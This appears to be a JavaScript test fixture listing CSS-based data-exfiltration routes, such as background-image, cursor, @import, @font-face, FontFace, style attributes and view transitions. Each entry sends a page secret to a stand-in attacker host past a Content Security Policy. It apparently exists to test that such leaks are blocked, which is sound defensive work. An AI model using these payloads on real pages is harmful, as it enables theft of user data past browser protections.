// Through styles: each asks for an address that the policy allows no picture, font or sheet of.
const style = (property, value) => `document.body.style.setProperty("${property}", \`${value}\`); document.body.textContent = "x"`;
const rule = (text) => `const s = new CSSStyleSheet(); s.replaceSync(\`${text}\`); document.adoptedStyleSheets = [...document.adoptedStyleSheets, s]`;
const own = (text) => `document.styleSheets[0].insertRule(\`${text}\`, 0)`;
const url = 'url(${evil}/?${secret})';
export const family = 'style';
export const ways = [
  ...['background-image', 'border-image-source', 'list-style-image', 'mask-image', 'cursor', 'content', 'clip-path', 'filter', 'shape-outside']
    .map((name) => [name, `${style(name, name === 'cursor' ? `${url}, auto` : name === 'clip-path' || name === 'filter' ? 'url(${evil}/?${secret}#x)' : url)}; document.body.style.display = "list-item"`]),
  ['image-set', style('background-image', 'image-set("${evil}/?${secret}" 1x)')],
  ['a picture in a rule of a new sheet', rule(`body { background: ${url} }`)],
  ['a picture in a rule of the page\'s sheet', own(`body { background: ${url} !important }`)],
  ['a picture in a variable', rule(`:root { --x: ${url} } body { background: var(--x) }`)],
  ['a picture before the text', rule(`body::before { content: ${url} }`)],
  ['a sheet imported by the page\'s sheet', own(`@import ${url};`)],
  ['a sheet imported by a new sheet', rule(`@import ${url};`)],
  ['a font in a rule', `${rule(`@font-face { font-family: zz; src: ${url} } body { font-family: zz !important }`)}; document.body.textContent = "x"; await document.fonts.load("12px zz")`],
  ['a font by FontFace', `await new FontFace("zz", \`${url}\`).load()`],
  ['a <style> of its own', 'const s = document.createElement("style"); s.textContent = `body { background: url(${evil}/?${secret}) }`; document.head.append(s)'],
  ['the <style> of the page', 'const s = document.querySelector("style"); s.textContent = `body { background: url(${evil}/?${secret}) }`'],
  ['a copied <style> of the page', 'const s = document.querySelector("style").cloneNode(); s.textContent = `@import "${evil}/?${secret}";`; document.head.append(s)'],
  ['a style attribute', 'document.body.setAttribute("style", `background: url(${evil}/?${secret})`)'],
  ['a picture of a view transition', rule(`::view-transition { background: ${url} }`) + '; await document.startViewTransition(() => {}).finished'],
  ['an animated picture', `document.body.animate([{ backgroundImage: \`${url}\` }, { backgroundImage: \`${url}\` }], 1000)`],
];
